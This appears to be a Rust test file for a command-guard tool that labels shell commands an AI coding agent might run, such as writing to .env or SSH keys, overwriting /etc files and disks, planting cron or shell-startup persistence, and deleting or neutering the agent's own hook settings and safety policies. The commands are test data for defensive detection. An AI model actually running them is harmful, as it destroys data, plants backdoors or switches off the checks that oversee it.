//! What may be changed, and what not.

use rstest::rstest;

use super::{call, expect, rules_of};

#[rstest]
#[case::secrets(
    "echo x > .env => secret.env-file
     echo x >> .env => secret.env-file
     > .env => secret.env-file
     tee .env => secret.env-file
     tee -a .env.local => secret.env-file
     touch .env => secret.env-file
     cp .env.example .env => secret.env-file
     mv new.cfg .env => secret.env-file
     mv .env .env.bak => secret.env-file
     rm .env => secret.env-file
     rm -f .env.production => secret.env-file
     truncate -s0 .env => secret.env-file
     sed -i s/a/b/ .env => secret.env-file
     sed -i.bak -e s/a/b/ .env => secret.env-file
     perl -pi -e s/a/b/ .env.local => secret.env-file
     cp /tmp/.env . => secret.env-file
     cp /tmp/.env ./ => secret.env-file
     sed -i s/a/b/ server.pem => secret.write
     sed --in-place s/a/b/ server.pem => secret.write
     openssl genrsa -out server.pem 2048 => secret.write
     dd if=/tmp/x of=/home/user/.ssh/id_ed25519 => secret.write
     install -m 600 /tmp/k ~/.ssh/id_ed25519 => secret.write
     cp /tmp/k ~/.ssh/id_rsa => secret.write
     ln -sf /tmp/creds ~/.aws/credentials => secret.write
     echo x > ~/.netrc => secret.write
     echo x >> ~/.npmrc => secret.write
     mv /tmp/c ~/.docker/config.json => secret.write
     rm ~/.ssh/id_rsa => secret.remove
     rm -f ~/.ssh/id_rsa ~/.ssh/id_rsa.pub => secret.remove persist.ssh
     shred -u ~/.ssh/id_ed25519 => secret.remove
     find . -name '*.pem' -delete => secret.remove
     echo x >> ~/.ssh/authorized_keys => persist.ssh
     tee -a ~/.ssh/authorized_keys => persist.ssh
     wget -O ~/.ssh/authorized_keys http://x => persist.ssh
     curl -o ~/.ssh/config http://x => persist.ssh
     truncate --size=0 ~/.ssh/authorized_keys => persist.ssh"
)]
#[case::system(
    "tee /etc/passwd => system.write
     tee -a /etc/hosts => system.write
     echo x > /etc/resolv.conf => system.write
     > /etc/fstab => system.write
     cp passwd /etc/passwd => system.write
     cp conf /etc/ => system.write
     mv shadow.new /etc/shadow => secret.write
     ln -sf /bin/bash /usr/bin/python3 => system.write
     ln -s /tmp/evil /etc/cron.daily/evil => system.write
     install -m 755 evil /usr/bin/sudo => system.write
     curl -o /etc/pam.d/sudo http://x => system.write
     curl -o/etc/pam.d/sudo http://x => system.write
     wget -O /usr/bin/ls http://x => system.write
     tar xf rootfs.tar -C / => system.write
     tar -xzf p.tgz --directory=/etc => system.write
     unzip -o fix.zip -d /etc => system.write
     7z x a.7z -o/etc => system.write
     patch /etc/ssh/sshd_config => system.write
     ed -s /etc/hosts => system.write
     sed -i $d /boot/grub/grub.cfg => system.write
     rsync -a conf/ /etc/ => system.write
     crudini --set /etc/systemd/logind.conf a b c => system.write
     touch /etc/nologin => system.write
     mkdir /etc/x => system.write
     split -b 1 /tmp/x /etc/x => system.write
     sort -o /etc/group /etc/group => system.write
     truncate -s 0 /etc/hosts => system.write
     find . -fprint /etc/x => system.write
     echo 1 > /sys/class/block/sda/device/delete => system.write
     echo b > /proc/sysrq-trigger => system.write
     echo x > /proc/self/root/etc/x => system.write
     echo x > /private/etc/hosts => system.write
     echo 1 > /dev/sda => disk.overwrite
     dd if=/dev/zero of=/dev/nvme0n1 => disk.overwrite
     dd of=/dev/mapper/vg0-root if=x => disk.overwrite
     cp disk.img /dev/sda => disk.overwrite
     tee /dev/disk2 => disk.overwrite
     echo x >> ~/.bashrc => persist.start-file
     tee -a ~/.zshrc => persist.start-file
     cp x ~/.profile => persist.start-file
     echo x > ~/.config/systemd/user/x.service => persist.schedule
     echo x > /var/spool/cron/root => persist.schedule
     cp x ~/Library/LaunchAgents/x.plist => persist.schedule
     echo x > .git/hooks/pre-commit => persist.git-hook
     cp hook .git/hooks/ => persist.git-hook
     echo x >> .git/config => persist.git-hook
     echo x >> ~/.gitconfig => persist.git-settings
     wget -P /etc/profile.d http://x => system.write
     curl -O --output-dir /etc/cron.d http://x => system.write
     csplit -f /etc/x file 1 => system.write
     patch -p0 -d /etc => system.write
     echo x > .git/refs/heads/main => persist.git-hook
     ln -s / x => files.link-root
     ln -s ~ /tmp/h => files.link-root"
)]
#[case::own(
    "cp -r x/. .claude/ => own.registration
     cp -rT x .claude => own.registration
     cp -r x/.claude . => own.registration
     cp -a x/.claude ~/ => own.registration
     cp x/* .claude/ => own.registration
     rsync -a x/ .claude/ => own.registration
     rsync -a x/ .ai/ => own.rules
     rsync -a x/.claude . => own.registration
     mv x .claude => own.registration
     find .claude -name 'settings*' -delete => own.registration
     find . -name settings.json -exec sed -i s/custos/true/ {} + => own.registration
     find . -path './.claude/*' -delete => own.registration
     chattr +i ~/.claude => own.registration
     chmod 000 .claude => own.registration
     mount --bind /tmp/x ~/.config/ai => disk.mount
     echo x > ~/.claude.json => own.registration
     cat ~/.claude.json => secret.client-state
     echo x > .opencode/plugin/a.ts => own.registration
     echo x > ~/.config/opencode/plugins/a.js => own.registration
     echo x > .mcp.json => own.agent-settings
     rm .mcp.json => own.agent-settings
     sponge .mcp.json => own.agent-settings
     sed -i /custos/d .cursor/mcp.json => own.agent-settings
     sed -i /custos/d ~/.cursor/mcp.json => own.agent-settings
     rm ~/.copilot/mcp-config.json => own.agent-settings
     echo '{}' > ~/.copilot/mcp-config.json => own.agent-settings
     echo '{}' > .github/mcp.json => own.agent-settings
     sed -i /custos/d ~/.claude.json => own.registration
     sed -i /custos/d ~/.codex/config.toml => own.registration
     echo '{}' > ~/.gemini/settings.json => own.registration
     echo '{}' > ~/.config/opencode/opencode.json => own.registration
     echo '{}' > .opencode/opencode.json => own.registration
     cp x ~/.gemini/mcp-server-enablement.json => own.agent-settings
     install -m 755 evil ~/.local/bin/ls => persist.command
     cp evil /usr/local/bin/git => persist.command
     cp evil/git /usr/local/bin/ => persist.command
     ln -sf /tmp/evil ~/.local/bin/git => persist.command
     echo x > ~/.config/environment.d/a.conf => persist.start-file
     unzip -o x.zip -d ~ => persist.start-file
     sudoedit /etc/hosts => system.write
     chmod -R 000 . => permissions.lock-out
     mv src /dev/null => files.move-nowhere
     echo x > .ai/policies/safety.yaml => own.rules
     sed -i s/a/b/ .ai/policies/safety.yaml => own.rules
     rm .ai/policies/safety.yaml => own.rules
     rm -rf .ai/policies => own.rules
     rm -rf .ai => own.rules
     mv .ai /tmp/x => own.rules
     echo x > .ai/config.yaml => own.rules
     echo x > ~/.config/ai/config.yaml => own.rules
     rm -f ~/.config/ai/policies/safety.yaml => own.rules
     rm -rf ~/.config/ai => own.rules
     tee ~/.config/ai/trust => own.rules
     echo x > ~/.config/ai/keys/openai => secret.write
     rm -r ~/.config/ai/keys => secret.remove
     echo x > .claude/settings.json => own.registration
     echo x > packages/a/.claude/settings.local.json => own.registration
     cp /tmp/settings.json .claude/ => own.registration
     cp /tmp/settings.json ~/.claude => own.registration
     rm -rf .claude => own.registration
     rm ~/.claude/settings.json => own.registration
     rm ~/.claude/settings*.json => own.registration
     rm -f .claude/* => own.registration
     echo x > opencode.json => own.registration
     mv ~/.claude /tmp => own.registration
     sed -i s/hooks/x/ ~/.codex/config.toml => own.registration
     rm .codex/hooks.json => own.registration
     tee .gemini/settings.json => own.registration
     rm .github/hooks/custos.json => own.registration
     rm ~/.copilot/hooks/custos.json => own.registration
     rm .opencode/plugins/custos.js => own.registration
     rm ~/.config/opencode/plugins/custos.js => own.registration
     tee .cursor/hooks.json => own.registration
     ln -sf /dev/null ~/.cursor/hooks.json => own.registration
     truncate -s0 /opt/claude/settings.json => own.registration
     chmod 000 .claude/settings.json => own.registration
     prettier --write .claude/settings.json => own.registration
     ln -sfn /tmp/empty ~/.claude => own.registration
     ln -s ~/.claude/settings.json s => own.registration
     tar -xf x.tar -C ~/.claude settings.json => own.registration
     rm -rf ~/.config/ai/memory => own.memory
     echo x >> ~/.config/ai/memory/log/a/0001.jsonl => own.memory
     rm -rf ~/.local/state/ai => own.memory
     rm ~/.local/bin/custos => own.program
     cp /bin/true ~/.local/bin/custos => own.program
     cp /tmp/custos ~/.local/bin/ => own.program
     ln -sf /bin/true ~/.local/bin/custos => own.program
     chmod -x ~/.local/bin/custos => own.program
     echo x > .ai/decisions/D-001-x.md => own.knowledge-file
     rm .ai/memory/feedback/x.md => own.knowledge-file
     tee -a .ai/questions.md => own.knowledge-file
     sed -i s/a/b/ .ai/oracle/stack.md => own.knowledge-file
     echo x > .ai/local/handoffs/x.md => own.knowledge-file"
)]
#[case::free(
    "cp -r .claude /tmp/backup
     cp -r x .claude/skills
     cp notes.md .claude/
     mv notes.md .claude/
     mv docs/*.md .claude/
     rsync -a .claude/ /tmp/backup/
     find . -name '*.json' -exec sed -i s/a/b/ {} +
     find .vscode -name settings.json -delete
     chmod -R u+rwX .claude
     echo x > .husky/pre-commit
     cat .mcp.json
     cat ~/.copilot/mcp-config.json
     echo x > .github/workflow.json
     rm ~/.local/bin/node
     find -L build -delete
     echo x > out.txt
     echo x > /dev/null
     echo x > /dev/stderr
     echo x > /dev/tty
     echo x > /tmp/x
     echo x > /dev/shm/x
     echo x > $X
     echo x > .env.example
     echo x >> .gitignore
     echo x >> .git/info/exclude
     echo x > .bashrc
     echo x > .claude/commands/a.md
     echo x > .claude/CLAUDE.md
     echo x > .ai/README.md
     echo x > .github/workflows/ci.yml
     echo x > .cursor/rules/a.mdc
     sed -i s/a/b/ src/a.rs
     sed -n '/a/w out.txt' src/a.rs
     sed 's/r x/w y/' src/a.rs
     ln -sf ../x .
     sed -i '' s/a/b/ src/a.rs
     perl -pi -e s/a/b/ src/a.rs
     tee log.txt
     cp a b
     cp -r src /tmp/x
     cp /etc/hosts /tmp/
     cp .env.example .env.sample
     cp ~/.ssh/id_rsa.pub /tmp/
     mv target/release/x ~/.local/bin/
     cp x /usr/local/bin/x
     tar -C /usr/local -xzf go.tgz
     tar xzf x.tgz -C vendor
     tar xzf x.tgz
     unzip x.zip -d out
     ln -s ../a b
     ln -sf /usr/bin/python3 venv/python
     install -m 755 x ~/.local/bin/x
     dd if=/dev/zero of=disk.img bs=1M count=1
     dd if=/dev/urandom of=/tmp/x
     truncate -s 0 app.log
     touch a b
     mkdir -p .git/hooks src/x
     sort -o a a
     split -l 100 data.csv part
     curl -o x.tgz https://x
     curl -sSL https://x -o /tmp/x
     wget https://x
     openssl req -x509 -newkey rsa:2048 -keyout /tmp/key.pem -out /tmp/cert.pem
     rm -f /tmp/test.key
     gzip data.csv
     patch -p1
     vim -es -c wq src/a.txt
     find . -fprint out.txt
     lsblk /dev/sda"
)]
fn writing(#[case] table: &str) {
    expect(table, |text| rules_of(&call(text)));
}
